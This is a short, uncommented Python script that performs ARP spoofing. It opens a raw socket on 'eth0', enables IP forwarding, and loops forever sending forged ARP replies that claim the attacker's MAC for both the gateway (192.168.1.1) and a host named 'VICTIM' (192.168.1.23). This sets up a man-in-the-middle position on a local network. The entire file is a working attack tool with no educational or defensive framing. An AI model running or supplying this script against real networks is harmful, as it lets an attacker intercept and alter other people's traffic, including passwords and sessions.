import socket
import struct
import time

IFACE = "eth0"
GW, VICTIM = "192.168.1.1", "192.168.1.23"
VMAC = bytes.fromhex("ffffffffffff")
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
s.bind((IFACE, 0))
me = s.getsockname()[4]


def reply(dst_mac, src_ip, dst_ip):
    eth = dst_mac + me + struct.pack("!H", 0x0806)
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + me + socket.inet_aton(src_ip) + dst_mac + socket.inet_aton(dst_ip)
    return eth + arp


open("/proc/sys/net/ipv4/ip_forward", "w").write("1")
while True:
    s.send(reply(VMAC, GW, VICTIM))
    s.send(reply(VMAC, VICTIM, GW))
    time.sleep(1.5)
